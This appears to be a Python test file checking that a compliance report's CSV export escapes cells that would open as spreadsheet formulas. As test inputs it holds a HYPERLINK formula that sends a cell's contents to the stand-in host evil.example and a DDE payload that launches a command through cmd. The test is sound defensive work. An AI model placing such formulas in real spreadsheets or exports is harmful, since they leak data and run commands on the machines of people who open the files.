"""The compliance report's CSV cannot carry a formula into the spreadsheet that opens it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from cuishou.compliance.report import report_csv
from cuishou.compliance.schemas import CountOut, DayOut, OverrideRow, PersonCountOut, ReportOut

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_cells_that_would_run_as_formulas_are_written_as_text() -> None:
    # given a report whose collector, agency and keys start like formulas
    report = ReportOut(
        date_from=date(2026, 11, 1),
        date_to=date(2026, 11, 2),
        days=[
            DayOut(
                day=date(2026, 11, 1), checks=3, blocked=1, violations=0, overrides=1, findings=1
            )
        ],
        blocked_by_rule=[CountOut(key="@cn.hours", count=1)],
        violations_by_rule=[],
        violations_by_collector=[],
        findings_by_category=[CountOut(key="-1+1", count=1)],
        findings_by_collector=[
            PersonCountOut(collector=HOSTILE, agency="+cmd|' /C calc'!A0", key="threat", count=2)
        ],
        overrides=[
            OverrideRow(
                at=datetime(2026, 11, 1, 2, tzinfo=UTC),
                approved_by="=lead",
                rules=["cn.hours"],
                reason="家属同意",
            )
        ],
    )
    # when it is exported
    text = report_csv(report)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    # then no cell starts a formula, and each still reads as it was, behind one quote
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    agency = "'+cmd|' /C calc'!A0"
    assert ["findings_by_collector", "", "'" + HOSTILE, agency, "threat", "2"] in rows
    assert ["blocked_by_rule", "", "", "", "'@cn.hours", "1"] in rows
    assert ["findings_by_category", "", "", "", "'-1+1", "1"] in rows
    assert rows[-1][2] == "'=lead"
    # and the counts, days and times are untouched
    assert ["day", "2026-11-01", "", "", "checks", "3"] in rows
